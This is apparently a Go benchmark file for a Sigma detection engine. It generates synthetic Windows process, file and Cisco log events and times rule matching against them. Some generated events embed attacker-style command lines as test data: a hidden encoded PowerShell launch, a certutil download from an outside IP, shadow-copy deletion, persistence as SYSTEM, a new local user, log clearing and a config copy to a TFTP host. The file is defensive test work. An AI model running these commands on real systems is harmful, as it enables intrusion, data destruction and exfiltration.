package sigma

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"os"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/openmxdr/openmxdr/internal/event"
)

// lane makes n events of one kind as NDJSON lines, always the same.
func lane(kind string, n int) [][]byte {
	r := rand.New(rand.NewPCG(7, 11))
	pick := func(xs []string) string { return xs[r.IntN(len(xs))] }
	hexes := func(n int) string {
		var b strings.Builder
		for range n {
			b.WriteByte("0123456789abcdef"[r.IntN(16)])
		}
		return b.String()
	}
	images := []string{`C:\Windows\System32\svchost.exe`, `C:\Windows\System32\tasklist.exe`, `C:\Windows\explorer.exe`,
		`C:\Program Files\Google\Chrome\Application\chrome.exe`, `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`,
		`C:\Windows\System32\RuntimeBroker.exe`, `C:\Windows\System32\wbem\WmiPrvSE.exe`, `C:\Program Files\Git\cmd\git.exe`}
	quiet := []string{`C:\Windows\System32\svchost.exe -k LocalService -p -s EventLog`, `tasklist /v /fo list`,
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=utility --lang=en-US`, `C:\Windows\System32\RuntimeBroker.exe -Embedding`,
		`"C:\Program Files\Git\cmd\git.exe" status --porcelain`, `C:\Windows\System32\wbem\WmiPrvSE.exe -secured -Embedding`}
	loud := []string{`powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA`, `whoami /all`,
		`certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\Users\Public\a.exe`, `vssadmin.exe delete shadows /all /quiet`,
		`schtasks /create /tn U /tr C:\Users\Public\u.exe /sc onlogon /ru SYSTEM`, `net user x P@ss /add`}
	parents := []string{`C:\Windows\System32\services.exe`, `C:\Windows\explorer.exe`, `C:\Windows\System32\cmd.exe`, `C:\Windows\System32\winlogon.exe`}
	users := []string{`NT AUTHORITY\SYSTEM`, `CORP\alice`, `CORP\bob`, `CORP\svc-backup`}
	files := []string{`C:\Users\u\Downloads\report.pdf`, `C:\Users\u\Documents\notes.docx`, `C:\Users\u\AppData\Local\Temp\install.log`, `C:\Windows\Temp\MpCmdRun.log`}
	var out [][]byte
	for range n {
		cmd := pick(quiet)
		if r.IntN(50) == 0 {
			cmd = pick(loud)
		}
		image := strings.Trim(strings.Fields(cmd)[0], `"`)
		if !strings.HasPrefix(image, "C:") {
			image = pick(images)
		}
		var e any
		switch kind {
		case "structured":
			e = struct {
				EventID                                                                  int
				Image, CommandLine, ParentImage, ParentCommandLine, User, IntegrityLevel string
				CurrentDirectory, LogonId                                                string
				ProcessId, ParentProcessId                                               int
				ProcessGuid, Hashes, OriginalFileName, Computer, UtcTime                 string
				Product                                                                  string `json:"product"`
				Category                                                                 string `json:"category"`
			}{1, image, cmd, pick(parents), pick(quiet), pick(users), pick([]string{"Medium", "High", "System"}),
				`C:\Windows\system32\`, "0x" + hexes(5), r.IntN(60000), r.IntN(60000), hexes(8) + "-" + hexes(4) + "-" + hexes(12),
				"SHA256=" + strings.ToUpper(hexes(64)), image[strings.LastIndexByte(image, '\\')+1:], "ws-" + hexes(4),
				fmt.Sprintf("2026-07-28 11:%02d:%02d.%03d", r.IntN(60), r.IntN(60), r.IntN(1000)), "windows", "process_creation"}
		case "file":
			host := "HOST-" + hexes(1)
			e = struct {
				EventID, Channel, ProviderName, Computer, Image, TargetFilename, CreationUtcTime, ProcessGuid string
				ProcessId                                                                                     int
				User                                                                                          string
				Product                                                                                       string `json:"product"`
				Category                                                                                      string `json:"category"`
			}{"11", "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", host, pick(images), pick(files),
				fmt.Sprintf("2026-01-15 10:%02d:%02d.%03d", r.IntN(60), r.IntN(60), r.IntN(1000)), hexes(8) + "-" + hexes(12), r.IntN(60000), host + `\user1`, "windows", "file_event"}
		case "raw":
			e = map[string]string{"product": "windows", "message": fmt.Sprintf("<131>Jul 28 11:%02d:%02d %s MSWinEventLog\t1\tSecurity\t%d\tTue Jul 28 11:28:00 2026\t4688\t"+
				"Microsoft-Windows-Security-Auditing\t-\\-\tN/A\tSuccess Audit\tws\tProcess Creation\t\tA new process has been created.    Creator Subject:   Security ID:  %s   Account Name:  ws$   "+
				"Account Domain:  CORP   Logon ID:  0x%s    Target Subject:   Security ID:  \\NULL SID   Account Name:  -   Account Domain:  -   Logon ID:  0x0    Process Information:   New Process ID:  0x%s   "+
				"New Process Name: %s   Token Elevation Type: %%%%1936   Mandatory Label:  Mandatory Label\\Medium Mandatory Level   Creator Process ID: 0x%s   Creator Process Name: %s   Process Command Line: %s\t%d",
				r.IntN(60), r.IntN(60), "ws-"+hexes(4), r.IntN(1e9), pick(users), hexes(3), hexes(4), image, hexes(4), pick(parents), cmd, r.IntN(1e7))}
		case "cisco":
			c := pick([]string{"show version", "show vlan brief", "show ip interface brief", "ping 10.20.30.1 repeat 5", "show environment all"})
			if r.IntN(10) == 0 {
				c = pick([]string{"clear logging", "crypto key generate rsa modulus 2048", "copy running-config tftp://198.51.100.9/rc.cfg"})
			}
			e = map[string]string{"product": "cisco", "service": "aaa", "message": fmt.Sprintf("<189>Jan %d %02d:%02d:%02d core-sw01 %%AAA-5-USER_LOGGED: User netadmin executed: %s", 1+r.IntN(28), r.IntN(24), r.IntN(60), r.IntN(60), c)}
		}
		line, err := marshal(e)
		if err != nil {
			panic(err)
		}
		out = append(out, line)
	}
	return out
}

// BenchmarkLanes measures decoding and matching together, one event an
// operation, with the 3,141 rules of SigmaHQ's main folder.
func BenchmarkLanes(b *testing.B) {
	c, _ := ParseFS(corpus(b), "rules")
	for _, routing := range []Routing{RouteConflicts, RouteNone} {
		fields := event.NewFields()
		e, _ := Compile(c, fields, Options{Routing: routing})
		d := NewDecoder(e)
		for _, kind := range []string{"structured", "file", "raw", "cisco"} {
			lines := lane(kind, 10_000)
			b.Run(fmt.Sprintf("%s/routing=%d", kind, routing), func(b *testing.B) {
				ev := event.New(fields)
				var s Scratch
				var buf Buffer
				b.ReportAllocs()
				matches, i := 0, 0
				cpu := cpuTime()
				for b.Loop() {
					line := lines[i%len(lines)]
					i++
					ms, err := d.Match(line, ev, &s, &buf)
					if err != nil {
						b.Fatal(err)
					}
					matches += len(ms)
				}
				b.ReportMetric(float64(matches)/float64(b.N), "matches/op")
				b.ReportMetric(float64(b.N)/(cpuTime()-cpu).Seconds(), "events/cpu-s")
			})
		}
	}
}

// BenchmarkNormalized measures matching alone, as the pipeline does it: events
// with ECS fields, filled once, the shipped kind of field map and routing.
func BenchmarkNormalized(b *testing.B) {
	c, _ := ParseFS(corpus(b), "rules")
	maps, err := ParseFieldMap(os.DirFS("../content/fieldmaps"), ".")
	if err != nil {
		b.Fatal(err)
	}
	fields := event.NewFields()
	e, _ := Compile(c, fields, Options{FieldMap: maps, Routing: RouteDeclared})
	names := map[string]string{"Image": "process.executable", "CommandLine": "process.command_line", "ParentImage": "process.parent.executable",
		"ParentCommandLine": "process.parent.command_line", "CurrentDirectory": "process.working_directory"}
	var events []*event.Event
	for _, line := range lane("structured", 2000) {
		var m map[string]any
		if err := json.Unmarshal(line, &m); err != nil {
			b.Fatal(err)
		}
		ev := event.New(fields)
		ev.Set("event.dataset", event.StringValue("windows.sysmon_operational"))
		ev.Set("event.code", event.StringValue("1"))
		ev.Set("event.category", event.StringsValue("process"))
		ev.Set("winlog.channel", event.StringValue("Microsoft-Windows-Sysmon/Operational"))
		ev.Set("event.original", event.StringValue(string(line)))
		for k, v := range m {
			if s, ok := v.(string); ok && k != "product" && k != "category" {
				ev.Set("winlog.event_data."+k, event.StringValue(s))
				if n := names[k]; n != "" {
					ev.Set(n, event.StringValue(s))
				}
			}
		}
		events = append(events, ev)
	}
	var s Scratch
	b.ReportAllocs()
	matches, i := 0, 0
	for b.Loop() {
		matches += len(e.Match(events[i%len(events)], &s))
		i++
	}
	b.ReportMetric(float64(matches)/float64(b.N), "matches/op")
}

// BenchmarkJSONMap is the yardstick: decoding the structured lane into a map.
func BenchmarkJSONMap(b *testing.B) {
	lines := lane("structured", 10_000)
	i := 0
	cpu := cpuTime()
	for b.Loop() {
		var m map[string]any
		if err := json.Unmarshal(lines[i%len(lines)], &m); err != nil {
			b.Fatal(err)
		}
		i++
	}
	b.ReportMetric(float64(b.N)/(cpuTime()-cpu).Seconds(), "events/cpu-s")
}

// marshal writes JSON as most exporters do: "<" and "&" stay as they are.
func marshal(v any) ([]byte, error) {
	var b bytes.Buffer
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	err := enc.Encode(v)
	return bytes.TrimRight(b.Bytes(), "\n"), err
}

// cpuTime is the processor time this process has used, which tells more than
// the clock on a machine that does other things too.
func cpuTime() time.Duration {
	var r syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &r); err != nil {
		return 0
	}
	return time.Duration(r.Utime.Nano() + r.Stime.Nano())
}
